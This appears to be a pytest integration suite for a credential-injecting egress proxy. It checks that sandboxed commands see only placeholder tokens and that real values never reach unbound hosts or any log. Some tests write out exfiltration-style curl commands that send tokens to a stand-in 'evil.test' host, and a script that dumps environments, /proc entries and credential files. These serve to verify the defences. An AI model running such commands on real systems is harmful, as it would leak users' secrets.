"""Credentials inside a real ``egress run``: the sandbox holds placeholders, the gate adds the real
values for the bound hosts only, and no output channel ever shows a real value.

The upstreams are real loopback TLS servers that record what they receive (an echoing HTTP server
and ``git http-backend`` demanding Basic credentials); the clients are real curl and git.
"""

from __future__ import annotations

import base64
import json
import re
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from tests.credentials_harness import (
    GITHUB_TOKEN,
    NPM_TOKEN,
    AuthGitServer,
    EchoUpstream,
    write_credentials,
    write_secret,
)
from tests.dnsfake import FakeDns
from tests.gitserver import make_repository
from tests.harness import LocalCA, clean_env, serving
from tests.otlp_receiver import GrpcReceiver

pytestmark = [pytest.mark.netns, pytest.mark.timeout(180)]
REPO = Path(__file__).resolve().parents[3]
BASIC = "Basic " + base64.b64encode(f"x-access-token:{GITHUB_TOKEN}".encode()).decode()


@pytest.fixture
def dns(fake_dns: FakeDns) -> FakeDns:
    for name in ("allowed.test", "evil.test"):
        fake_dns.set(name, "A", ["127.0.0.1"])
        fake_dns.set(name, "AAAA", [])
    return fake_dns


@pytest.fixture
def bound(test_ca: LocalCA) -> Iterator[EchoUpstream]:
    yield from serving(EchoUpstream("bound", tls=test_ca.server_context()))


@pytest.fixture
def other(test_ca: LocalCA) -> Iterator[EchoUpstream]:
    yield from serving(EchoUpstream("other", tls=test_ca.server_context()))


@pytest.fixture
def git_auth(tmp_path: Path, test_ca: LocalCA) -> Iterator[AuthGitServer]:
    bare = make_repository(tmp_path / "git", "myorg/demo.git")
    yield from serving(AuthGitServer(bare.parent.parent, test_ca.server_context(), BASIC))


class World:
    def __init__(
        self, tmp: Path, dns: FakeDns, ca: LocalCA, bound: int, other: int, git: int
    ) -> None:
        self.tmp, self.dns, self.ca = tmp, dns, ca
        self.bound, self.other, self.git = bound, other, git
        rules = [
            {"name": "bound-api", "hosts": ["allowed.test"], "ports": [bound, git],
             "inspect": True},
            {"name": "other-api", "hosts": ["evil.test"], "ports": [other], "inspect": True},
        ]  # fmt: skip
        self.policy = tmp / "policy.yaml"
        self.policy.write_text(
            yaml.safe_dump({"version": 1, "allow_internal": ["127.0.0.0/8"], "rules": rules})
        )
        self.npm_file = write_secret(tmp, "npm-token", NPM_TOKEN)
        self.credentials = write_credentials(
            tmp,
            [
                {
                    "name": "github",
                    "source": {"env": "EGRESS_TEST_GITHUB"},
                    "hosts": [f"allowed.test:{bound}", f"allowed.test:{git}"],
                    "header": "Authorization",
                    "basic": {"username": "x-access-token"},
                    "env": ["GH_TOKEN", "GITHUB_TOKEN"],
                },
                {
                    "name": "npm",
                    "source": {"file": str(self.npm_file)},
                    "hosts": [f"allowed.test:{bound}"],
                    "header": "Authorization",
                    "format": ["Bearer {}"],
                    "env": ["NPM_TOKEN"],
                    "npmrc": True,
                },
            ],
        )
        self.log = tmp / "decisions.jsonl"
        self.journal = tmp / "journal"

    def argv(self, script: str, *extra: str) -> list[str]:
        return [sys.executable, "-m", "proxy.app.cli", "run", "--policy", str(self.policy),
                "--credentials", str(self.credentials), "--nameserver", self.dns.nameserver,
                "--state-dir", str(self.tmp / "state"), "--upstream-ca", str(self.ca.ca_path),
                "--decision-log", str(self.log), "--journal", str(self.journal), *extra,
                "--", "sh", "-c", script]  # fmt: skip

    @staticmethod
    def env() -> dict[str, str]:
        return clean_env(
            EGRESS_TEST_GITHUB=GITHUB_TOKEN, GITHUB_TOKEN=GITHUB_TOKEN, MY_COPY=f"x{GITHUB_TOKEN}x"
        )

    def run(self, script: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            self.argv(script), cwd=REPO, capture_output=True, text=True, timeout=150,
            env=self.env(),
        )  # fmt: skip

    def decisions(self) -> list[dict[str, object]]:
        return [json.loads(line) for line in self.log.read_text().splitlines() if line]


@pytest.fixture
def world(
    tmp_path: Path,
    dns: FakeDns,
    test_ca: LocalCA,
    bound: EchoUpstream,
    other: EchoUpstream,
    git_auth: AuthGitServer,
) -> World:
    return World(tmp_path, dns, test_ca, bound.port, other.port, git_auth.port)


def test_curl_with_the_placeholder_reaches_the_bound_host_with_the_real_token(
    world: World, bound: EchoUpstream
) -> None:
    url = f"https://allowed.test:{world.bound}/user"
    script = (
        'echo "gh=$GH_TOKEN github=$GITHUB_TOKEN npm=$NPM_TOKEN copy=${MY_COPY:-unset}"; '
        f'curl -sS -D - -H "Authorization: token $GH_TOKEN" {url}; '
        f'curl -sS -H "Authorization: Bearer $NPM_TOKEN" {url}'
    )
    result = world.run(script)
    assert result.returncode == 0, result.stderr
    first = result.stdout.splitlines()[0]
    values = dict(part.split("=", 1) for part in first.split())
    gh, npm = values["gh"], values["npm"]
    # shape-preserving, random placeholders, the same in both variables; the copy was removed
    assert gh.startswith("ghp_") and len(gh) == len(GITHUB_TOKEN) and gh != GITHUB_TOKEN
    assert npm.startswith("npm_") and len(npm) == len(NPM_TOKEN) and npm != NPM_TOKEN
    assert values["github"] == gh and values["copy"] == "unset"
    assert "MY_COPY held a credential's real value" in result.stderr
    assert "GITHUB_TOKEN held" not in result.stderr  # declared: it holds the placeholder now
    # the upstream received the real values ...
    got = [headers["authorization"] for _, _, headers in bound.requests]
    assert got == [f"token {GITHUB_TOKEN}", f"Bearer {NPM_TOKEN}"]
    # ... and its echo came back scrubbed to the placeholders (header and body)
    echoed = [line for line in result.stdout.splitlines() if line.lower().startswith("x-echo:")]
    assert [line.split(":", 1)[1].strip() for line in echoed] == [f"token {gh}"]
    assert f"saw authorization=token {gh}" in result.stdout
    assert f"saw authorization=Bearer {npm}" in result.stdout
    assert GITHUB_TOKEN not in result.stdout + result.stderr
    assert NPM_TOKEN not in result.stdout + result.stderr
    assert "credentials added by the gate: github (x1), npm (x1)" in result.stderr
    uses = [d for d in world.decisions() if d.get("credential")]
    assert [(d["credential"], d["decision"]) for d in uses] == [
        ("github", "allow"),
        ("npm", "allow"),
    ]


def test_git_clone_sends_the_real_token_as_basic_credentials(
    world: World, git_auth: AuthGitServer, tmp_path: Path
) -> None:
    url = f"https://allowed.test:{world.git}/myorg/demo.git"
    clone = tmp_path / "clone"
    result = world.run(f"git clone -q {url} {clone} && cat {clone}/README")
    assert result.returncode == 0, result.stderr
    assert "hello through the gate" in result.stdout
    assert BASIC in git_auth.authorizations  # what git sent, with the placeholder swapped
    assert all(GITHUB_TOKEN not in a for a in git_auth.authorizations if a != BASIC)
    assert GITHUB_TOKEN not in result.stdout + result.stderr


def test_the_placeholder_to_another_host_is_refused_and_never_arrives(
    world: World, bound: EchoUpstream, other: EchoUpstream
) -> None:
    url = f"https://evil.test:{world.other}"
    script = (
        f'curl -sS -o /dev/null -w "header=%{{http_code}}\\n" -H "Authorization: Bearer $GH_TOKEN"'
        f" {url}/; "
        f'curl -sS -o /dev/null -w "url=%{{http_code}}\\n" "{url}/x?t=$GH_TOKEN"; '
        f'curl -sS -o /dev/null -w "path=%{{http_code}}\\n" "{url}/$GH_TOKEN"; '
        f'curl -sS -o /dev/null -w "body=%{{http_code}}\\n" --data "leak=$GH_TOKEN" {url}/; '
        f'curl -sS -o /dev/null -w "basic=%{{http_code}}\\n" -u "me:$NPM_TOKEN" {url}/; '
        f'curl -sS -o /dev/null -w "plain=%{{http_code}}\\n" -u "me:$NPM_TOKEN" '
        f"http://allowed.test:{world.bound}/; "
        f'curl -sS -o /dev/null -w "wrongplace=%{{http_code}}\\n" "https://allowed.test:'
        f'{world.bound}/?q=$GH_TOKEN"; '
        f'curl -sS -o /dev/null -w "clean=%{{http_code}}\\n" {url}/ok'
    )
    result = world.run(script)
    assert result.returncode == 0, result.stderr
    codes = dict(line.split("=") for line in result.stdout.split())
    assert codes == {
        "header": "403", "url": "403", "path": "403", "body": "403", "basic": "403",
        "plain": "403", "wrongplace": "403", "clean": "200",
    }, result.stdout  # fmt: skip
    assert [target for _, target, _ in other.requests] == ["/ok"]  # only the clean request
    assert bound.requests == []
    misuse = [d for d in world.decisions() if d.get("reason") == "credential-misuse"]
    assert len(misuse) == 7
    assert {d["credential"] for d in misuse} == {"github", "npm"}
    assert all("allowed.test" in str(d["detail"]) for d in misuse if d["host"] == "evil.test")


def test_the_sandbox_cannot_read_the_real_values(world: World) -> None:
    script = (
        "env; for p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null | tr '\\0' '\\n';"
        f" done; cat {world.credentials} {world.npm_file}; echo files-read; "
        "git config --show-origin --get-regexp 'credential.*' ; "
        "npm config get //allowed.test:" + str(world.bound) + "/:_authToken 2>/dev/null; "
        "echo done"
    )
    result = world.run(script)
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert "done" in out and "files-read" in out
    assert "GH_TOKEN=ghp_" in out and "NPM_TOKEN=npm_" in out  # the dump works: placeholders
    assert "x-access-token" in out  # git's helper is configured
    assert GITHUB_TOKEN not in out and NPM_TOKEN not in out
    assert "EGRESS_TEST_GITHUB" not in out  # the source variable is not passed on
    assert world.npm_file.read_text().strip() == NPM_TOKEN  # it exists outside, hidden inside


def test_no_output_channel_ever_holds_a_real_value(
    world: World, bound: EchoUpstream, git_auth: AuthGitServer, tmp_path: Path
) -> None:
    """Uses, misuse, an echo, git: then the gate's and egress run's stdout and stderr, the decision
    log, the journal, the OTLP export and the metrics are searched for the real values."""
    scraped = tmp_path / "scraped"
    out_file, err_file = tmp_path / "stdout", tmp_path / "stderr"
    script = (
        f'curl -sS -H "Authorization: Bearer $GH_TOKEN" https://allowed.test:{world.bound}/a; '
        f'curl -sS -H "Authorization: Bearer $NPM_TOKEN" https://allowed.test:{world.bound}/b; '
        f'curl -sS -H "Authorization: Bearer $GH_TOKEN" https://evil.test:{world.other}/c; '
        f"git clone -q https://allowed.test:{world.git}/myorg/demo.git {tmp_path / 'clone'}; "
        f"touch {tmp_path / 'requests-done'}; "
        f"for i in $(seq 600); do test -e {scraped} && break; sleep 0.1; done"
    )
    with GrpcReceiver() as receiver, open(out_file, "wb") as out, open(err_file, "wb") as err:
        # port 0: the run says where it serves metrics (no port picked here that another bind
        # could take before the gate binds it)
        process = subprocess.Popen(
            world.argv(script, "--otlp-endpoint", receiver.endpoint, "--otlp-protocol", "grpc",
                       "--metrics", "127.0.0.1:0"),
            cwd=REPO, stdout=out, stderr=err, env=world.env(),
        )  # fmt: skip
        try:
            for _ in range(600):  # bounded: about a minute
                if (tmp_path / "requests-done").exists() or process.poll() is not None:
                    break
                time.sleep(0.1)
            notice = re.search(r"egress run: metrics on (http://\S+)", err_file.read_text())
            assert notice, err_file.read_text()
            with urllib.request.urlopen(notice.group(1), timeout=10) as response:
                metrics = response.read().decode()
        finally:
            scraped.touch()
            process.wait(timeout=120)
        stdout, stderr = out_file.read_text(), err_file.read_text()
        journal = world.journal.read_text().splitlines()
        exported = receiver.wait_for(len(journal), timeout=30)
    assert process.returncode == 0, stderr
    assert (tmp_path / "clone" / "README").is_file()
    assert 'egress_credential_uses_total{credential="github",outcome="used"}' in metrics
    assert 'egress_credential_uses_total{credential="github",outcome="misuse"} 1.0' in metrics
    assert 'egress_credential_uses_total{credential="npm",outcome="used"} 1.0' in metrics
    channels = {
        "stdout": stdout,
        "stderr": stderr,
        "decision log": world.log.read_text(),
        "journal": "\n".join(journal),
        "otlp": "\n".join(repr(r) for r in exported),
        "metrics": metrics,
    }
    assert "credential-misuse" in channels["decision log"] and '"credential"' in channels["journal"]
    assert len(exported) == len(journal)
    assert any(r.attributes.get("egress.credential") == "github" for r in exported)
    for name, text in channels.items():
        assert text, name
        for secret in (GITHUB_TOKEN, NPM_TOKEN, BASIC.split()[1]):
            assert secret not in text, f"a real value in {name}"


def test_a_broken_credentials_file_or_a_joined_gate_never_runs_the_command(
    world: World, tmp_path: Path
) -> None:
    marker = tmp_path / "ran"
    text = world.credentials.read_text().replace("allowed.test:", "nowhere.test:", 1)
    world.credentials.write_text(text)
    result = world.run(f"touch {marker}")
    assert result.returncode == 125 and not marker.exists()
    assert (
        f"{world.credentials}:7: credential 'github': key 'hosts': nowhere.test:" in result.stderr
    )
    assert str(world.policy) in result.stderr
    joined = subprocess.run(
        [sys.executable, "-m", "proxy.app.cli", "run", "--proxy", "http://127.0.0.1:9",
         "--credentials", str(world.credentials), "--", "touch", str(marker)],
        cwd=REPO, capture_output=True, text=True, timeout=60, env=world.env(),
    )  # fmt: skip
    assert joined.returncode == 125 and not marker.exists()
    assert "--credentials needs this command's own isolated gate" in joined.stderr
    assert GITHUB_TOKEN not in result.stderr + joined.stderr


def test_npm_sends_the_placeholder_from_its_registry_token_and_the_registry_gets_the_real_one(
    world: World, bound: EchoUpstream, tmp_path: Path
) -> None:
    registry = f"https://allowed.test:{world.bound}/"
    (tmp_path / ".npmrc").write_text("fund=false\n")  # the user's own settings are kept
    script = (
        f"cd {tmp_path} && HOME={tmp_path} npm config get fund && "
        f"HOME={tmp_path} npm whoami --registry {registry}; echo npm=$?"
    )
    result = world.run(script)
    assert "npm=" in result.stdout, result.stderr
    assert result.stdout.startswith("false"), result.stdout
    assert [h.get("authorization") for _, _, h in bound.requests] == [f"Bearer {NPM_TOKEN}"]
    assert NPM_TOKEN not in result.stdout + result.stderr
